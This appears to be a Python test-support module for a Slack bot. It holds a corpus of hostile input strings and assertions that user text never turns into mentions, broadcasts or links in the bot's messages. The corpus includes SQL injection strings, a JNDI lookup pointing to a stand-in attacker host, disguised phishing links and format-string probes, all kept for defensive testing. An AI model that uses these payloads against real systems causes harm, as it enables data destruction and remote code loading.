"""Hostile input: a corpus of text people (or attackers) may type, and the checks that a
payload we built from it mentions, broadcasts and links nobody.

Shared by every test that feeds free text through the app (slash commands now; modal
fields and options queries reuse it).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from hypothesis import strategies as st

LONG = 10_000

#: Each entry is one hostile fragment; tests embed it in commands and fields.
HOSTILE_TEXTS: dict[str, str] = {
    "channel": "<!channel>",
    "here": "<!here>",
    "everyone": "<!everyone> hello",
    "mention": "<@U123>",
    "labelled-mention": "<@U123|the boss>",
    "channel-link": "<#C123|general>",
    "user-group": "<!subteam^S123|@admins>",
    "disguised-link": "<https://evil.example|click>",
    "mail-link": "<mailto:boss@evil.example|boss>",
    "bare-url": "https://evil.example/login",
    "escaped-channel": "&lt;!channel&gt;",
    "double-escaped": "&amp;lt;!here&amp;gt;",
    "escaped-mention": "&lt;@U123&gt; and &amp; &gt",
    "nul": "python\x00rust",
    "control": "bell\x07back\x08esc\x1b[31mred",
    "newlines": "line one\nline two\r\n<!here>",
    "tab": "go\tlang",
    "rtl-override": "\u202eevil.exe\u202c",
    "rtl-mark": "\u200fpython\u200f",
    "bidi-isolate": "\u2066python\u2069",
    "zero-width": "py\u200bthon\ufeff",
    "emoji": "🙂🚀 public speaking",
    "emoji-zwj": "👩‍👩‍👧‍👦 family",
    "combining": "e\u0301\u0301\u0301\u0301 python",
    "zalgo": "Z̷̡̛a̸̢l̴̨g̶̡o̵̧",
    "mrkdwn": "*bold* _it_ ~strike~ `code` ```block```",
    "sql-drop": "'; DROP TABLE members; --",
    "sql-or": '" OR 1=1 --',
    "sql-like": "%' OR '1'='1",
    "backslashes": "\\\\ \\n \\x00",
    "template": "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
    "long-word": "x" * LONG,
    "long-words": "python " * (LONG // 7),
    "long-emoji": "🙂" * (LONG // 2),
}

#: How the fragments reach the command parser.
COMMAND_TEMPLATES: dict[str, str] = {
    "verb": "{}",
    "offer": "offer {}",
    "offer-list": "offer python, {}, go",
    "offer-level": "offer python level {}",
    "request": "request {}",
    "remove": "remove offer {}",
    "find": "find {}",
}

# What Slack would turn into a mention, a broadcast or a link if it reached mrkdwn raw.
_INJECTED = re.compile(r"<\s*[!@#]|<\s*(?:https?|mailto|ftp|slack):", re.IGNORECASE)


def hostile_commands() -> Iterator[tuple[str, str]]:
    """(id, command text) for every template x fragment."""
    for template_id, template in COMMAND_TEMPLATES.items():
        for text_id, text in HOSTILE_TEXTS.items():
            yield f"{template_id}-{text_id}", template.format(text)


def strings_in(payload: Any) -> Iterator[str]:
    """Every string inside a payload (JSON strings inside strings included)."""
    if isinstance(payload, dict):
        for value in payload.values():
            yield from strings_in(value)
    elif isinstance(payload, list):
        for value in payload:
            yield from strings_in(value)
    elif isinstance(payload, str):
        yield payload
        if payload[:1] in ("[", "{"):
            try:
                decoded = json.loads(payload)
            except ValueError:
                return
            yield from strings_in(decoded)


def injected_markup(payload: Any, *, allowed_mentions: tuple[str, ...] = ()) -> list[str]:
    """Pieces of the payload that Slack would render as a mention, broadcast or link.

    `allowed_mentions` are `<@U…>` mentions the app writes on purpose (a pair's intro).
    """
    found = []
    for text in strings_in(payload):
        for allowed in allowed_mentions:
            text = text.replace(allowed, "")
        for match in _INJECTED.finditer(text):
            found.append(text[max(0, match.start() - 20) : match.end() + 20])
    return found


def assert_no_injected_markup(payload: Any, *, allowed_mentions: tuple[str, ...] = ()) -> None:
    found = injected_markup(payload, allowed_mentions=allowed_mentions)
    assert not found, f"user text became markup: {found[:3]}"


#: Free text mixing ordinary words with hostile fragments, for property tests.
hostile_text = st.lists(
    st.one_of(
        st.sampled_from([t for t in HOSTILE_TEXTS.values() if len(t) < 200]),
        st.text(min_size=0, max_size=30),
        st.sampled_from(["offer", "request", "remove", "list", "help", ",", " ", "level"]),
    ),
    max_size=8,
).map(" ".join)


def rendered_texts(payload: Any) -> Iterator[str]:
    """The strings Slack renders as mrkdwn in a payload we sent: every `mrkdwn` text
    object, and a message's top-level `text` (its notification). Plain text (titles,
    labels, an input's initial value) is shown literally, so user text may sit there raw.
    """
    if isinstance(payload, dict):
        if payload.get("type") == "mrkdwn" and isinstance(payload.get("text"), str):
            yield payload["text"]
        for key, value in payload.items():
            if key == "text" and isinstance(value, str) and payload.get("type") is None:
                yield value
            elif isinstance(value, dict | list):
                yield from rendered_texts(value)
            elif isinstance(value, str) and value[:1] in ("[", "{"):
                try:
                    decoded = json.loads(value)
                except ValueError:
                    continue
                yield from rendered_texts(decoded)
    elif isinstance(payload, list):
        for value in payload:
            yield from rendered_texts(value)


# Dates the app itself formats with Slack's date token (typed ones arrive escaped).
_APP_DATE = re.compile(r"<!date\^\d+\^[^|<>]*\|[^<>]*>")


def assert_nothing_rendered_as_markup(
    payload: Any, *, allowed_mentions: tuple[str, ...] = ()
) -> None:
    """Like assert_no_injected_markup, for payloads that echo user text as plain text."""
    texts = [_APP_DATE.sub("", text) for text in rendered_texts(payload)]
    found = injected_markup(texts, allowed_mentions=allowed_mentions)
    assert not found, f"user text became markup: {found[:3]}"


#: More ways text reaches the command parser: verbs that take nothing, and admin verbs.
COMMAND_TEMPLATES.update(
    {
        "forget-me": "forget-me {}",
        "pause": "pause {}",
        "admin": "admin {}",
        "admin-add": "admin add {}",
    }
)
